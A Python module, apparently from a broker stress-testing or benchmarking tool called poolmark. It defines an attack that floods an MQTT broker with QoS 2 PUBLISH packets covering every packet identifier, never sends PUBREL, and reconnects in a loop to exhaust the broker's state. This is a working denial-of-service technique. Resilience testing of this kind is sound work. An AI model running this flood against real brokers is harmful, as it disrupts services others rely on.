# SPDX-License-Identifier: Apache-2.0
from collections.abc import Generator

from poolmark.attack import packets
from poolmark.attack.broker import Broker

A_ROUND = 65_535


def unreleased(broker: Broker) -> Generator[None, None, None]:
    """PUBLISHes at QoS 2 with each packet identifier that there is, from the last to the first, and no PUBREL"""
    flood = b"".join(packets.publish("attack/q", b"x", qos=2, number=number) for number in range(A_ROUND, 0, -1))
    yield
    while True:
        with broker.connect() as client:
            client.send(flood, 5.0)
            client.read_for(0.2)
        yield
